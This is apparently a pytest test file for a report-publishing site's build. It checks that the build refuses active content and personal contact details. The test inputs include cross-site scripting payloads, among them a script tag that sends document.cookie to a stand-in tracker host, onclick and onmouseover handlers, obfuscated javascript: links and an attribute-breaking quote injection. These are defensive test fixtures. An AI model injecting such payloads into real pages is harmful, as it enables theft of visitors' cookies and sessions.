"""Personal data and active content never reach the public site: each case
fails the build with `path:line:column`, exit status 1 and site/ untouched."""

from __future__ import annotations

import pytest

import build as build_script  # scripts/build.py
from report_site import safety
from report_site.front_matter import split_front_matter
from report_site.site_model import load_site
from support import DOCS, ROOT, assert_problem, edit, line_of, replace_once, run_build

GROUP = "meetings/london-2014/groups/clu-experts.md"
ORGANISATION = "organisations/international-alert.md"


def append_paragraph(text: str):
    """Add a paragraph to the page's body; its first line starts with MARK."""
    return lambda page: page.rstrip("\n") + "\n\nMARK " + text + "\n"


ACTIVE_CONTENT = {
    # name: (Markdown added to a page's body, words of the message, line of the problem after the first)
    "script element": ('<script>fetch("https://tracker.example/?" + document.cookie)</script>', "<script> is refused", 0),
    "script element in capitals": ("<SCRIPT SRC=x.js></SCRIPT>", "<script> is refused", 0),
    "event attribute": ('<span onclick="steal()">click</span>', "event attribute onclick= is refused", 0),
    "event attribute through attr_list": ('words\n{: onmouseover="steal()" }', "event attribute onmouseover= is refused", 1),
    "javascript: Markdown link": ("[read more](javascript:alert(1))", "javascript: link is refused", 0),
    "javascript: link hidden by entities": ("[read more](java&#115;cript:alert(1))", "javascript: link is refused", 0),
    "javascript: reference link": ("[read more][x]\n\n[x]: javascript:alert(1)", "javascript: link is refused", 2),
    "javascript: HTML link": ('<a href=" JavaScript:alert(1)">read more</a>', "is refused: a link that runs code", 0),
    "iframe": ('<iframe src="https://video.example/embed/1"></iframe>', "<iframe> is refused", 0),
    "object": ('<object data="film.swf"></object>', "<object> is refused", 0),
    "embed": ('<embed src="film.swf">', "<embed> is refused", 0),
    "external Markdown image": ("![a map](https://maps.example/tile.png)", "is on another site", 0),
    "external reference image": ("![a map][map]\n\n[map]: //maps.example/tile.png", "is on another site", 0),
    "external HTML image": ('<img alt="a map" src="http://maps.example/tile.png">', "src= loads a file from another site", 0),
    "external srcset": ('<img alt="a map" src="map.png" srcset="https://maps.example/tile.png 2x">', "srcset= loads a file", 0),
    "style that loads from elsewhere": ('<span style="background: url(https://t.example/p.gif)">x</span>', "style attribute", 0),
    "html comment": ("<!-- ask Anna before publishing -->", "HTML comment", 0),
}


@pytest.mark.parametrize("name", sorted(ACTIVE_CONTENT))
def test_active_content_is_refused(name, docs_copy, published_site, capsys):
    snippet, words, lines_after = ACTIVE_CONTENT[name]
    edit(docs_copy, GROUP, append_paragraph(snippet))
    line = line_of(docs_copy, GROUP, "MARK ") + lines_after
    status, err = run_build(docs_copy, published_site, capsys)
    assert status == 1
    assert_problem(err, GROUP, line, "body", words)
    assert "nothing was published" in err


def test_active_content_in_front_matter_is_refused(docs_copy, published_site, capsys):
    """Front-matter values are written into other pages' Markdown (lists,
    facts), so they are held to the same rules as the body."""
    edit(docs_copy, GROUP, replace_once("report_name: the", "report_name: <img src=https://t.example/p.gif> the"))
    line = line_of(docs_copy, GROUP, "report_name:")
    status, err = run_build(docs_copy, published_site, capsys)
    assert status == 1
    assert_problem(err, GROUP, line, "report_name", "loads a file from another site")


def test_straight_quotes_in_a_description_are_refused(docs_copy, published_site, capsys):
    """The theme writes the description into a <meta> attribute unescaped:
    a straight quote would end the attribute and let the rest become markup."""
    edit(docs_copy, ORGANISATION, replace_once("description: >-\n", 'description: >-\n  It said "x" onmouseover=alert(1)\n'))
    status, err = run_build(docs_copy, published_site, capsys)
    assert status == 1
    assert_problem(err, ORGANISATION, None, "description", "straight quotes")


PERSONAL_DATA = {
    # name: (Markdown added to a page's body, words of the message)
    "e-mail address": ("Write to anna.petrosyan@mail.example.am for details.", "e-mail address 'anna.petrosyan@mail.example.am'"),
    "mailto link": ("[Write to her](mailto:anna@example.org)", "e-mail address 'anna@example.org'"),
    "disguised e-mail address": ("Write to anna [at] example [dot] org.", "e-mail address 'anna [at] example [dot] org'"),
    "international phone number": ("Call +994 12 555 01 23 after six.", "phone number '+994 12 555 01 23'"),
    "phone number with brackets": ("Call (+374) 10 555012 after six.", "phone number '(+374) 10 555012'"),
    "local phone number": ("Call 020 7946 0000 after six.", "phone number '020 7946 0000'"),
    "tel link": ("[Call her](tel:5550123)", "phone number 'tel:5550123'"),
}


@pytest.mark.parametrize("name", sorted(PERSONAL_DATA))
def test_personal_data_in_the_body_is_refused(name, docs_copy, published_site, capsys):
    snippet, words = PERSONAL_DATA[name]
    edit(docs_copy, GROUP, append_paragraph(snippet))
    line = line_of(docs_copy, GROUP, "MARK ")
    status, err = run_build(docs_copy, published_site, capsys)
    assert status == 1
    assert_problem(err, GROUP, line, "body", words)
    assert "nothing was published" in err


def test_personal_data_in_the_front_matter_is_refused(docs_copy, published_site, capsys):
    edit(docs_copy, GROUP, replace_once("report_name: the", "report_name: Anna, +7 495 555 01 23, the"))
    line = line_of(docs_copy, GROUP, "report_name:")
    status, err = run_build(docs_copy, published_site, capsys)
    assert status == 1
    assert_problem(err, GROUP, line, "report_name", "phone number '+7 495 555 01 23'")


def test_personal_data_in_a_nested_field_is_refused(docs_copy, published_site, capsys):
    edit(docs_copy, ORGANISATION, replace_once("  - title: International Alert\n",
                                               "  - title: International Alert, ask press@international-alert.example\n"))
    status, err = run_build(docs_copy, published_site, capsys)
    assert status == 1
    assert_problem(err, ORGANISATION, None, "sources[0].title", "e-mail address")


def allow(contacts: list[str]):
    return replace_once("website:", "allow_contacts:\n" + "".join(f"  - {c!r}\n" for c in contacts) + "website:")


def test_an_allowed_public_contact_is_published(docs_copy, tmp_path, capsys):
    edit(docs_copy, ORGANISATION, allow(["press@international-alert.example", "+44 20 7946 0000"]))
    edit(docs_copy, ORGANISATION, append_paragraph(
        "Press enquiries: [press@international-alert.example](mailto:press@international-alert.example), "
        "+44 (0)20 7946 0000."))
    site = tmp_path / "new-site"
    status = build_script.main(["--docs-dir", str(docs_copy), "--site-dir", str(site)])
    assert status == 0, capsys.readouterr().err
    page = (site / "organisations/international-alert/index.html").read_text(encoding="utf-8")
    assert "press@international-alert.example" in page
    assert "allow_contacts" not in (site / "metadata.json").read_text(encoding="utf-8")


def test_an_allowance_covers_only_its_own_page(docs_copy, published_site, capsys):
    edit(docs_copy, ORGANISATION, allow(["press@international-alert.example"]))
    edit(docs_copy, ORGANISATION, append_paragraph("Press: press@international-alert.example."))
    edit(docs_copy, GROUP, append_paragraph("Press: press@international-alert.example."))
    status, err = run_build(docs_copy, published_site, capsys)
    assert status == 1
    assert_problem(err, GROUP, None, "body", "e-mail address 'press@international-alert.example'")
    assert ORGANISATION + ":" not in err


def test_an_allowance_that_is_not_a_contact_is_refused(docs_copy, published_site, capsys):
    edit(docs_copy, ORGANISATION, allow(["the press office"]))
    status, err = run_build(docs_copy, published_site, capsys)
    assert status == 1
    line = line_of(docs_copy, ORGANISATION, "  - 'the press office'")
    assert_problem(err, ORGANISATION, line, "allow_contacts[0]", "neither an e-mail address nor a phone number")


def test_an_allowance_the_page_never_uses_is_refused(docs_copy, published_site, capsys):
    edit(docs_copy, ORGANISATION, allow(["press@international-alert.example"]))
    status, err = run_build(docs_copy, published_site, capsys)
    assert status == 1
    assert_problem(err, ORGANISATION, None, "allow_contacts[0]", "the page never shows it")


def test_dates_years_and_ranges_are_not_phone_numbers(docs_copy, tmp_path, capsys):
    edit(docs_copy, GROUP, append_paragraph(
        "Made 2011–2016 (also written 2011-2016 or 2011 - 2016), on 2014-10-21, 21.10.2014 and 21/10/2014; "
        "12,500,000 people; 1994 and 2014 2015; ISBN 978-1-55587-834-8; see [the report](../report.md#context)."))
    site = tmp_path / "new-site"
    status = build_script.main(["--docs-dir", str(docs_copy), "--site-dir", str(site)])
    assert status == 0, capsys.readouterr().err


def test_code_is_shown_not_run(docs_copy, tmp_path, capsys):
    """Markdown escapes code, so an author may show HTML as an example."""
    edit(docs_copy, GROUP, append_paragraph("Never write `<script>` in a page.\n\n```html\n<iframe src=\"x\"></iframe>\n```"))
    site = tmp_path / "new-site"
    status = build_script.main(["--docs-dir", str(docs_copy), "--site-dir", str(site)])
    assert status == 0, capsys.readouterr().err
    page = (site / "meetings/london-2014/groups/clu-experts/index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;" in page and "<iframe" not in page


def test_the_published_pages_pass():
    """The real docs/ has no false positives: nothing in it is flagged."""
    _, problems = load_site(DOCS, display_root=ROOT)
    assert problems == []


@pytest.mark.parametrize("text", [
    "2014", "2011–2016", "2011-2016", "2014-10-21", "21 October 2014", "21.10.2014", "10/21/2014",
    "1994 ceasefire", "more than 200 reports", "12,500,000", "1.250.000", "three one-hour films",
    "london-2014", "#msg-2", "https://en.wikipedia.org/wiki/2014_Armenian%E2%80%93Azerbaijani_clashes",
    "ISBN 978-1-55587-834-8", "doi 10.1234/5678901234", "pages 12-34", "2014 2015 2016",
])
def test_not_a_contact(text):
    assert list(safety.contacts(text)) == []


@pytest.mark.parametrize("text,kind", [
    ("+44 20 7946 0000", "phone number"), ("0044 20 7946 0000", "phone number"), ("020 7946 0000", "phone number"),
    ("+994-12-555-01-23", "phone number"), ("(+374) 10 555012", "phone number"), ("055.512.3456", "phone number"),
    ("a.b@example.org", "e-mail address"), ("A.B@Example.ORG", "e-mail address"), ("a (at) example.org", "e-mail address"),
])
def test_a_contact(text, kind):
    assert [found[1] for found in safety.contacts(f"Call or write: {text}.")] == [kind]


def test_allowances_match_whatever_the_spelling():
    assert safety.normalise_contact("+44 (20) 7946-0000") == safety.normalise_contact("0044 20 7946 0000")
    assert safety.normalise_contact("Press@Example.org") == safety.normalise_contact("press@example.org")


def test_problems_point_at_line_and_column():
    text = "---\nkind: page\nid: x\ntitle: X\ndescription: A page about nothing in particular.\n---\n\nFirst.\n\nSee <iframe src=x>.\n"
    front, problems = split_front_matter(text, "x.md")
    assert not problems
    found = safety.check_page(front, "x.md")
    assert [(p.line, p.column, p.field) for p in found] == [(10, 5, "body")]


def test_a_source_hash_of_figures_only_is_no_phone_number():
    # One translation in about three hundred gets a source_hash of twelve figures: quoted by
    # `translations.py mark-current` so YAML keeps it a string, and never read as a contact.
    from report_site.front_matter import split_front_matter
    from report_site.safety import check_page

    front, problems = split_front_matter('---\nkind: page\nid: about\nsource_hash: "012345678901"\n---\nText.\n', "x.md")
    assert front is not None and not problems
    assert front.data["source_hash"] == "012345678901"
    assert check_page(front, "x.md") == []
    # A phone number anywhere else on the page is still found.
    front, _ = split_front_matter('---\nkind: page\nid: about\nsummary: "Call 012345678901"\n---\nText.\n', "x.md")
    assert front is not None and check_page(front, "x.md")
